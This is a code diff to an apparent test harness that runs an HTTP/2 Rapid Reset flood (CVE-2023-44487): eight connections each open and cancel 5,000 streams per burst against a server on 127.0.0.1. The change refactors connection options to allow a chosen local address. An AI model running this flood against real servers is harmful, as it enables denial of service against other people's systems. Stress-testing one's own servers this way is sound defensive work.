@@ -1,29 +1,30 @@
-import { connect } from "node:net";
+import { connect, type TcpNetConnectOpts } from "node:net";
 import { setTimeout as wait } from "node:timers/promises";
 import type { AttackJob } from "./attacker.ts";
-import { type Counts, count, oneAddress } from "./repeat.ts";
+import { type Counts, count } from "./repeat.ts";
 
 const connections = 8;
 const resets = 5_000;
 const patienceMs = 15_000;
 
 /** Eight HTTP/2 connections, each of which opens and cancels 5,000 streams in one burst (CVE-2023-44487), over and over. */
-export async function rapidReset({ port, seconds }: AttackJob): Promise<Counts> {
+export async function rapidReset({ port, address, seconds }: AttackJob): Promise<Counts> {
   const counts: Counts = {};
   const burst = resetBurst(port);
+  const target = { host: "127.0.0.1", port, ...(address !== undefined && { localAddress: address }) };
   const endsAt = performance.now() + seconds * 1_000;
   while (performance.now() < endsAt) {
     const startedAt = performance.now();
-    await Promise.all(Array.from({ length: connections }, () => sendBurst(port, burst, counts)));
+    await Promise.all(Array.from({ length: connections }, () => sendBurst(target, burst, counts)));
     await wait(Math.max(0, startedAt + 1_000 - performance.now()));
   }
   return counts;
 }
 
 // Resolves when the server has closed the connection, or has answered the PING behind the last reset.
-function sendBurst(port: number, burst: Buffer, counts: Counts): Promise<void> {
+function sendBurst(target: TcpNetConnectOpts, burst: Buffer, counts: Counts): Promise<void> {
   return new Promise((resolve) => {
-    const socket = connect({ host: "127.0.0.1", port, localAddress: oneAddress });
+    const socket = connect(target);
     let outcome = "closed by the server";
     let received = Buffer.alloc(0);
     socket.setTimeout(patienceMs, () => end("timeout"));
